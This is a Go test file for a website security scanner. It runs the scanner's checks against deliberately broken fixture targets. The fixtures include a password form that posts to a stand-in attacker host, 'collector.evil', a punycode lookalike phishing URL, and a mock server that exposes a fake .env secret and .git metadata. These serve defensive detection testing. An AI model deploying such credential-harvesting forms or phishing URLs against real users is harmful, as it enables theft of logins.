package all

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/trustlens/trustlens/pkg/enrich"
	"github.com/trustlens/trustlens/pkg/finding"
	"github.com/trustlens/trustlens/pkg/registry"
)

func TestAllChecksRegistered(t *testing.T) {
	reg := registry.Builtin(nil)

	for _, name := range []string{
		"cookies", "domaudit", "forms", "headers", "leakypaths",
		"mixedcontent", "openredirect", "tlsaudit", "urlintel",
	} {
		_, ok := reg.Get(name)
		assert.True(t, ok, "module %s should self-register", name)
	}
}

func TestTierPartition(t *testing.T) {
	reg := registry.Builtin(nil)
	tiers := reg.ByTier()

	names := func(tier registry.Tier) []string {
		var out []string
		for _, d := range tiers[tier] {
			out = append(out, d.Name)
		}
		return out
	}

	require.Equal(t, []string{"cookies", "forms", "headers", "mixedcontent"}, names(registry.TierFast))
	require.Equal(t, []string{"leakypaths", "openredirect", "urlintel"}, names(registry.TierMedium))
	require.Equal(t, []string{"domaudit", "tlsaudit"}, names(registry.TierDeep))
}

// degradedPage trips the forms and mixedcontent checks in one pass: a
// cross-origin password form over plain HTTP, a GET login form, and
// active plus passive HTTP subresources on an HTTPS page.
const degradedPage = `<html><body>
<form action="http://collector.evil/login" method="post"><input type="password" name="pw"></form>
<form action="/search" method="get"><input type="password" name="pin"></form>
<img src="http://cdn.example/logo.png">
<script src="http://cdn.example/app.js"></script>
<iframe src="http://ads.example/frame.html"></iframe>
</body></html>`

// TestEmittedSeveritiesMatchWeaknessBands runs the built-in checks
// against deliberately broken targets and pushes everything they emit
// through enrichment: every severity a check reports must sit in the
// band of the weakness score its (category, sub_type) resolves to.
func TestEmittedSeveritiesMatchWeaknessBands(t *testing.T) {
	leaky := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/.git/HEAD":
			fmt.Fprint(w, "ref: refs/heads/main\n")
		case "/.env":
			fmt.Fprint(w, "DB_PASSWORD=hunter2\n")
		case "/phpinfo.php":
			fmt.Fprint(w, "<html><h1>phpinfo()</h1></html>")
		default:
			fmt.Fprint(w, "ok")
		}
	}))
	defer leaky.Close()

	redirecting := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if next := r.URL.Query().Get("next"); next != "" {
			w.Header().Set("Location", next)
			w.WriteHeader(http.StatusFound)
			return
		}
		w.WriteHeader(http.StatusOK)
	}))
	defer redirecting.Close()

	degraded := &registry.Target{
		URL:     "https://shop.example/login",
		Content: degradedPage,
		Headers: map[string]string{
			"content-security-policy": "default-src * 'unsafe-inline'",
			"server":                  "Apache/2.4.49 (Unix)",
			"set-cookie":              "session_id=abc; Path=/, theme=dark; Path=/",
		},
	}
	bare := &registry.Target{
		URL:     "https://shop.example/",
		Headers: map[string]string{"content-type": "text/html"},
	}

	runs := []struct {
		module string
		target *registry.Target
	}{
		{"headers", degraded},
		{"headers", bare},
		{"cookies", degraded},
		{"forms", degraded},
		{"mixedcontent", degraded},
		{"urlintel", &registry.Target{URL: "https://login@xn--pypal-4ve.paypal.com.a.b.evil.example/verify"}},
		{"urlintel", &registry.Target{URL: "https://203.0.113.9/"}},
		{"leakypaths", &registry.Target{URL: leaky.URL}},
		{"openredirect", &registry.Target{URL: redirecting.URL + "/?next=/home"}},
	}

	reg := registry.Builtin(nil)
	var findings []finding.Finding
	for _, run := range runs {
		d, ok := reg.Get(run.module)
		require.True(t, ok, run.module)
		out, err := d.Module.Analyze(context.Background(), run.target)
		require.NoError(t, err, run.module)
		require.NotEmpty(t, out, "module %s should fire on its broken target", run.module)
		findings = append(findings, out...)
	}

	seen := map[string]bool{}
	for _, f := range enrich.New(nil).EnrichAll(findings) {
		require.NoError(t, f.Validate())
		require.NotNil(t, f.SeverityScore, "%s/%s has no weakness row", f.Category, f.SubType)
		assert.True(t, f.Severity.ScoreInBand(*f.SeverityScore),
			"%s/%s: severity %s with score %.1f", f.Category, f.SubType, f.Severity, *f.SeverityScore)
		seen[f.Category+"/"+f.SubType] = true
	}

	// The tuples below are the ones whose scores historically drifted
	// out of band; the broken targets must keep producing them.
	for _, tuple := range []string{
		"mixed_content/passive",
		"mixed_content/iframe",
		"insecure_cookie/missing_secure",
		"insecure_cookie/missing_httponly",
		"missing_security_header/permissive_csp",
		"information_disclosure/server_banner",
		"sensitive_path_exposure/metadata_file",
		"sensitive_path_exposure/debug_page",
		"suspicious_url/punycode_host",
		"suspicious_url/userinfo_trick",
		"open_redirect/",
	} {
		assert.True(t, seen[tuple], "expected the broken targets to produce %s", tuple)
	}
}
